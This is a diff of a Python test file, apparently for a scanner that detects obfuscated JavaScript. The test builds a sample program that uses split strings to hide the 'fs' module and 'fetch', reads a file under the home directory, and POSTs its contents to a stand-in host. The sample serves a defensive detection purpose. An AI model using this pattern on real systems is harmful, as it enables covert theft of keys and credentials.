@@ -96,7 +96,8 @@ COMPUTED = {
 def test_javascript_is_read_as_it_computes(path: str) -> None:
     """The path of the key, the reader and the sender stand nowhere as such; all are what they come to."""
     program = (
-        f"const {{ readFileSync: get }} = require('node:' + 'fs');\nconst h = require('os').homedir(); {path}\n"
+        f"const {{ readFileSync: get }} = require('node:' + 'fs');\n"
+        f"const h = require('os').homedir(); {path}\n"
         "const go = globalThis['fe' + 'tch'];\n"
         "go('https://x.example.invalid', { method: 'POST', body: get(p) });\n"
     )
